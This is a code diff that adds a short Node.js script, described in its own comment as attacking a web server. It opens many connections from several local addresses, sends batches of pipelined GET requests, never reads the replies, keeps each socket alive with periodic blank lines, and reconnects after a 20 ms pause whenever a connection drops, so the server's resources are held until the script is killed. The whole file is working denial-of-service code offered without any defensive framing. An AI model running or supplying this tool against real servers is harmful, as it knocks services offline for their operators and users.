@@ -1,0 +1,34 @@
+// Attacks a web server by one step again and again until it is killed; prints a line when the first round is out.
+import { connect } from 'node:net';
+
+const { from, to, port, connections, requests, path, keeps } = JSON.parse(process.argv[2]);
+const bytes = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${to}\r\n\r\n`.repeat(requests));
+/** A connection that was cut is made anew after so many milliseconds, which is no flood of connections. */
+const pauseMs = 20;
+
+let open = 0;
+const attack = (localAddress) => {
+  const socket = connect({ host: to, port, localAddress });
+  // Whoever does not read learns of its end only by writing; empty lines before a request are allowed.
+  const knock = setInterval(() => socket.write('\r\n'), 500);
+  let isOver = false;
+  const again = () => {
+    if (isOver) return;
+    isOver = true;
+    clearInterval(knock);
+    socket.destroy();
+    setTimeout(() => attack(localAddress), pauseMs);
+  };
+  socket.on('error', again);
+  socket.on('close', again);
+  socket.on('connect', () => {
+    open += 1;
+    if (open === connections * from.length) console.log('attacking');
+    socket.pause();
+    socket.write(bytes, () => {
+      // Never read; hung up as soon as all is sent, or kept for as long as the server lets it.
+      if (!keeps) again();
+    });
+  });
+};
+for (const address of from) for (let index = 0; index < connections; index += 1) attack(address);
